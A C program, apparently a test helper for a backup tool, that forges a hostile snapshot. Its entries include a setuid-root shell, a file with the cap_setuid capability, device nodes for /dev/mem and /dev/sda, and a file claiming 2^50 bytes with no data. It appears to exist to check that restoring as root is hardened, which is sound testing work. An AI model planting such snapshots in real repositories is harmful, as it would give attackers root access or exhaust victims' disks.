/*
 * evil_privileges.c -- forge a snapshot that plants privileges on whoever
 * restores it as root, and a file entry of 2^50 bytes with no chunks.
 *
 *   evil_privileges REPO WRITE_KEY
 *
 * Writes one snapshot (dated now, host "web1") with:
 *   bin/                 directory 0755
 *   bin/rootshell        setuid root (04755, uid 0)
 *   bin/sgidtool         setgid (02755)
 *   bin/capshell         0755 with security.capability cap_setuid+ep
 *   bin/trusted          0644 with trusted.evil and user.ok
 *   bin/mem              character device 1,1 (/dev/mem), 0666
 *   bin/disk             block device 8,0 (/dev/sda), 0660
 *   shared/              directory 02775 (setgid: no privilege, restored)
 *   readme.txt           an ordinary file
 *   huge.img             2^50 bytes claimed, no chunks
 * and prints its name on stdout.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/sysmacros.h>
#include <time.h>

#include "evil.h"

/*
 * security.capability as the kernel stores it (struct vfs_cap_data,
 * revision 2, little-endian): magic_etc = VFS_CAP_REVISION_2 |
 * VFS_CAP_FLAGS_EFFECTIVE, then {permitted, inheritable} for capabilities
 * 0-31 and 32-63.  Permitted: CAP_SETUID (7).  getcap shows cap_setuid=ep.
 */
static const uint8_t cap_setuid_ep[20] = {
    0x01, 0x00, 0x00, 0x02,                         /* magic_etc */
    0x80, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, /* permitted, inheritable 0-31 */
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, /* 32-63 */
};

static struct evil_entry
ent(uint8_t type, const char *path, uint32_t mode, uint32_t uid, const char *content)
{
	struct evil_entry v;

	memset(&v, 0, sizeof(v));
	v.e.type = type;
	v.e.path = (char *)path;
	v.e.mode = mode;
	v.e.uid = uid;
	v.e.gid = uid;
	v.e.uname = uid == 0 ? (char *)"root" : NULL;
	v.e.gname = uid == 0 ? (char *)"root" : NULL;
	v.e.mtime_sec = 1700000000;
	if (content != NULL) {
		v.content = (const uint8_t *)content;
		v.len = strlen(content);
	}
	return v;
}

int
main(int argc, char **argv)
{
	static uint8_t evil_val[] = "planted";
	static uint8_t ok_val[] = "kept";
	struct gs_xattr capx[1], trx[2];
	struct evil_entry v[10];
	struct evil e;
	struct timespec now;
	char name[GS_NAME_HEX];
	size_t n = 0;

	if (argc != 3) {
		fprintf(stderr, "usage: evil_privileges REPO WRITE_KEY\n");
		return 2;
	}
	evil_open(&e, argv[1], argv[2]);

	v[n++] = ent(GS_FT_DIR, "bin", 0755, 0, NULL);
	v[n++] = ent(GS_FT_FILE, "bin/rootshell", 04755, 0, "#!/bin/sh\nexec /bin/sh -p\n");
	v[n++] = ent(GS_FT_FILE, "bin/sgidtool", 02755, 0, "#!/bin/sh\nid\n");

	v[n] = ent(GS_FT_FILE, "bin/capshell", 0755, 0, "#!/bin/sh\n# cap_setuid\n");
	capx[0].name = (char *)"security.capability";
	capx[0].value = (uint8_t *)cap_setuid_ep;
	capx[0].len = sizeof(cap_setuid_ep);
	v[n].e.xattrs = capx;
	v[n++].e.nxattrs = 1;

	v[n] = ent(GS_FT_FILE, "bin/trusted", 0644, 0, "trusted xattr\n");
	trx[0].name = (char *)"trusted.evil";
	trx[0].value = evil_val;
	trx[0].len = sizeof(evil_val) - 1;
	trx[1].name = (char *)"user.ok";
	trx[1].value = ok_val;
	trx[1].len = sizeof(ok_val) - 1;
	v[n].e.xattrs = trx;
	v[n++].e.nxattrs = 2;

	v[n] = ent(GS_FT_CHR, "bin/mem", 0666, 0, NULL);
	v[n++].e.rdev = makedev(1, 1);
	v[n] = ent(GS_FT_BLK, "bin/disk", 0660, 0, NULL);
	v[n++].e.rdev = makedev(8, 0);

	v[n++] = ent(GS_FT_DIR, "shared", 02775, 0, NULL);
	v[n++] = ent(GS_FT_FILE, "readme.txt", 0644, 0, "an ordinary file\n");

	/* 2^50 bytes claimed, no chunk at all: export would pad with zeros. */
	v[n] = ent(GS_FT_FILE, "huge.img", 0644, 0, NULL);
	v[n].keep_chunks = 1;
	v[n].e.size = (uint64_t)1 << 50;
	v[n].e.chunks = NULL;
	v[n++].e.nchunks = 0;

	clock_gettime(CLOCK_REALTIME, &now);
	evil_snapshot(&e, v, n, (int64_t)now.tv_sec * 1000000000 + now.tv_nsec, "web1", name);
	printf("%s\n", name);
	evil_close(&e);
	return 0;
}
